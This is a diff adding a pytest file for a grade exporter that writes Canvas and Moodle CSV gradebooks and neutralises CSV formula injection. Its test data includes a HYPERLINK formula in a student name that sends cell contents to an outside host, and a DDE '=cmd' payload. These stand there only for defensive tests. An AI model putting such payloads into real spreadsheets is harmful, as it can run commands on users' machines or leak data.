@@ -1,0 +1,197 @@
+"""What an LMS is given: each score with its student, empty where there is none, and no formula."""
+
+import csv
+import io
+import random
+
+import pytest
+
+from autograde.errors import UsageError
+from autograde.exporting import COLUMNS, MOODLE, export, harmless, number, written
+from autograde.term import Term
+
+NAMES = [
+    ("ana", "Åsa", "O'Brien", "asa@x.org"),
+    ("wei", "", "李", "li@x.org"),
+    ("bo.lee", 'Bo "Bobo"', "Lee, Jr.", "Bo+Lee@x.org"),
+    ("-7", "Two\nLines", "Smith; Jones", "seven@x.org"),
+    ("evil", "=1+1", '=HYPERLINK("http://x.org?"&A1)', "evil@x.org"),
+]
+LESSONS = {"01_policy_updates": 20.0, "02_divergence": 26.0, "07_case_study": 30.0}
+
+
+def row(student, lesson, score="", waits=False, unscored=0):
+    names = dict(zip(("id", "first_name", "last_name", "email"), student, strict=True))
+    marks = {"late_penalty": 0.0 if score != "" else "", "needs_hand_grading": waits}
+    most = {"lesson": lesson, "score": score, "max_score": LESSONS[lesson]}
+    return {**names, **most, **marks, "unscored": unscored}
+
+
+@pytest.fixture
+def rows():
+    """Lesson 01 nobody handed in, 02 all but one, and 07 has essays in all their states."""
+    made = [row(student, "01_policy_updates") for student in NAMES]
+    made += [row(s, "02_divergence", 10 + i / 3) for i, s in enumerate(NAMES[:4])]
+    made += [row(NAMES[4], "02_divergence")]
+    made += [row(NAMES[0], "07_case_study", 25.5), row(NAMES[1], "07_case_study", 12.0, True, 1)]
+    made += [row(NAMES[2], "07_case_study", 9.0, True, 0), row(NAMES[3], "07_case_study", 0.0)]
+    return [*made, row(NAMES[4], "07_case_study")]
+
+
+@pytest.fixture
+def term(tmp_path, rows, monkeypatch):
+    """As much of a term as exporting needs: its rows."""
+    monkeypatch.setattr("autograde.exporting.grades", lambda term: iter(rows))
+    return Term(tmp_path)
+
+
+def read(path):
+    with path.open(newline="", encoding="utf-8") as file:
+        return list(csv.reader(file))
+
+
+def test_the_table_reads_back_as_it_was(tmp_path, term, rows):
+    lines = read(export(term, tmp_path / "x.csv").path)
+    assert lines[0] == COLUMNS
+    assert lines[1:] == [[str(harmless(one[name])) for name in COLUMNS] for one in rows]
+    assert not list(tmp_path.glob("*.partial"))
+
+
+def test_canvas_gets_its_columns_and_what_is_due(tmp_path, term):
+    made = export(term, tmp_path / "x.csv", "canvas")
+    header, most, *students = read(made.path)
+    assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
+    assert header[5:] == ["02_divergence", "07_case_study"]  # importing 01 would make it due
+    assert most[0].strip() == "Points Possible"
+    assert most[5:] == ["26", "30"]
+    assert [line[0] for line in students[:2]] == ["O'Brien, Åsa", "李"]
+    assert [line[2:4] for line in students] == [[one[0], one[0]] for one in NAMES]
+    scores = {line[2]: line[5:] for line in students}
+    assert scores["ana"] == ["10", "25.5"]
+    assert scores["-7"] == ["11", "0"]  # nothing earned is not nothing handed in
+    assert scores["evil"] == ["", ""]
+
+
+def test_what_waits_for_a_hand_is_empty_and_said(tmp_path, term):
+    made = export(term, tmp_path / "x.csv", "canvas")
+    scores = {line[2]: line[6] for line in read(made.path)[2:]}
+    assert (scores["wei"], scores["bo.lee"]) == ("", "9")
+    assert len(made.notes) == 2
+    assert made.notes[0].startswith("1 scores wait for an essay")
+    assert "--partial" in made.notes[0]
+    assert made.notes[1].startswith("1 scores hold a grade by hand from before")
+    partial = export(term, tmp_path / "x.csv", "canvas", partial=True)
+    assert {line[2]: line[6] for line in read(partial.path)[2:]}["wei"] == "12"
+    assert "without them" in partial.notes[0]
+
+
+def test_moodle_gets_both_of_its_ids(tmp_path, term):
+    header, *students = read(export(term, tmp_path / "x.csv", "moodle").path)
+    assert header == [*MOODLE, "02_divergence", "07_case_study"]
+    assert {line[2]: line[3] for line in students} == {one[0]: one[3] for one in NAMES}
+    assert {line[2]: line[4] for line in students}["bo.lee"] == "10.67"
+
+
+CANVAS = """\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Essay (7),02 Divergence (12),Total
+,,,,,,Manual Posting,
+    Points Possible,,,,,10,25,(read only)
+"Lee, Bo",3,900,BO.LEE,A,4,1,50
+"O'Brien, Åsa",1,901,asa@x.org,A,5,,60
+"Evil, E",5,902,evil,A,6,7.5,70
+"李",8,903,someone,A,6,,70
+"Student, Test",9,,x,A,,,
+"""
+
+
+def test_canvass_own_export_is_filled_in(tmp_path, term):
+    """Found by login, by email and by name; nothing but our lessons can change."""
+    (tmp_path / "canvas.csv").write_text(CANVAS, encoding="utf-8")
+    made = export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
+    header, most, *students = read(made.path)
+    titles = ["02 Divergence (12)", "07_case_study"]
+    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *titles]
+    assert most[5:] == ["25", "30"]
+    assert {line[1]: line[5:] for line in students} == {
+        "3": ["10.67", "9"], "1": ["10", "25.5"], "5": ["7.5", ""], "8": ["10.33", ""],
+    }  # fmt: skip
+    assert [line.partition(":")[0] for line in made.unplaced] == ["-7"]
+    assert any("has no assignment 07_case_study" in note for note in made.notes)
+    assert any("worth 25 there and 26 here" in note for note in made.notes)
+
+
+def test_an_id_of_one_kind_is_not_taken_for_another(tmp_path, term, rows):
+    """Our ids are SIS User IDs; that one of them is another student's Canvas ID means nothing."""
+    for one in rows:
+        one["id"] = {"ana": "901", "wei": "902", "bo.lee": "903"}.get(one["id"], one["id"])
+        one["email"] = one["first_name"] = one["last_name"] = ""
+    text = CANVAS.replace('"Evil, E",5', '"Evil, E",901').replace("BO.LEE", "901")
+    (tmp_path / "canvas.csv").write_text(text, encoding="utf-8")
+    lines = read(export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv").path)
+    assert {line[2]: line[5] for line in lines[2:]} == {"901": "10", "902": "10.33", "903": "10.67"}
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        (None, "cannot be read as CSV"),
+        (b"\xff\xfe\x00", "cannot be read as CSV"),
+        (b"", "not a gradebook of Canvas"),
+        (b"id,first_name,last_name,email\n", "not a gradebook of Canvas"),
+        (b"Student,ID,Section,02_divergence (1),02 divergence (2)\n", "rename all but one"),
+    ],
+)
+def test_what_is_no_gradebook_of_canvas(tmp_path, term, text, says):
+    if text is not None:
+        (tmp_path / "canvas.csv").write_bytes(text)
+    with pytest.raises(UsageError, match=says):
+        export(term, tmp_path / "x.csv", "canvas", tmp_path / "canvas.csv")
+    assert not list(tmp_path.glob("x.csv*"))
+
+
+def test_nothing_graded_is_no_gradebook(tmp_path, term, rows):
+    rows[:] = [row(student, "02_divergence") for student in NAMES]
+    with pytest.raises(UsageError, match="nothing is graded yet"):
+        export(term, tmp_path / "x.csv", "moodle")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+1+cmd()", "-2+3*A1", " =A1", "＝A1", "\t=A1"],
+)
+def test_no_name_is_a_formula(text):
+    assert harmless(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["-7", "@ana", "a+b@x.org", "-ana@x.org", "O'Brien", "x=1", "", 3])
+def test_ids_addresses_and_names_stay_as_they_are(text):
+    assert harmless(text) == text
+
+
+def test_any_text_comes_back_but_for_one_apostrophe():
+    """A property: whatever the cells hold, they read back, and none of them begins a formula."""
+    draw = random.Random(0)
+    letters = "=+-@'\",;\n\r\t aÅ李1("
+    lines = [["".join(draw.choices(letters, k=draw.randrange(9))) for _ in range(4)]
+             for _ in range(500)]  # fmt: skip
+    text = written([["a", "b", "c", "d"], *lines])
+    back = list(csv.reader(io.StringIO(text, newline="")))[1:]
+    assert len(back) == len(lines)
+    for line, got in zip(lines, back, strict=True):
+        for text, cell in zip(line, got, strict=True):
+            assert cell in (text, f"'{text}")
+            assert harmless(cell) == cell
+
+
+@pytest.mark.parametrize(
+    ("score", "text"),
+    [
+        (0.0, "0"),
+        (10.0, "10"),
+        (100.0, "100"),
+        (7.5, "7.5"),
+        (1 / 3, "0.33"),
+        (1234.567, "1234.57"),
+    ],
+)
+def test_a_score_has_two_decimals_at_most(score, text):
+    assert number(score) == text
